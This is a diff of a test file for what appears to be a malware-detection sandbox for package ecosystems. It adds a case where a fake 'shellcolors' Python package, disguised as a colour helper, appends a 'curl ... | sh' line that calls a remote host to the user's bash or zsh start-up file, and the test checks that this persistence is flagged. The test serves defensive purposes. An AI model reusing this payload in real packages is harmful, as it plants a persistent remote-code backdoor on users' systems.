@@ -339,6 +339,26 @@ class Wallet:
     expect(signals.find((s) => s.rule === 'sandbox-honeytoken-egress')!.message).toMatch(/^call hexwallet: sent the planted .* to POST https:\/\/k3y-drop\.ngrok-free\.app\/p/)
   })
 
+  it("gives a bash user's home its start-up files: a payload that appends to the rc file of $SHELL only where one exists is seen", { timeout: 60_000 }, async () => {
+    const core = `import os
+def enable_colors():
+    shell = os.path.basename(os.environ.get('SHELL') or '')
+    rc = os.path.expanduser('~/.%src' % shell)
+    if shell in ('bash', 'zsh') and os.path.exists(rc):
+        with open(rc, 'a') as f:
+            f.write('\\n(curl -s http://203.0.113.9/p | sh) >/dev/null 2>&1 &\\n')
+`
+    const sdist = await pypiEcosystem.readArtifact(
+      await sdistTarGz('shellcolors', '1.0.0', { 'setup.py': "from setuptools import setup\nsetup(name='shellcolors', version='1.0.0', packages=['shellcolors'])\n", 'shellcolors/__init__.py': core }),
+      DEFAULT_ARCHIVE_LIMITS,
+      { filename: 'shellcolors-1.0.0.tar.gz' },
+    )
+    const [developer, , production] = PERSONAS
+    const run = await runSandbox(pypiEcosystem, sdist, { ...DEFAULT_SANDBOX_OPTIONS, personas: [developer!, production!], personasAtOnce: 1, stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
+    const persistence = dynamicFindings(run).signals.filter((s) => s.rule === 'sandbox-persistence')
+    expect(persistence.map((s) => s.message)).toEqual([expect.stringMatching(/^call shellcolors: .* wrote \/home\/dana\/\.bashrc \[developer\]$/)])
+  })
+
   it('stands in for dependencies the sandbox lacks, so a payload behind their imports still runs at load and when called', { timeout: 60_000 }, async () => {
     const core = `import os, json, urllib.request
 import telegram_for_gatehouse_tests as tg
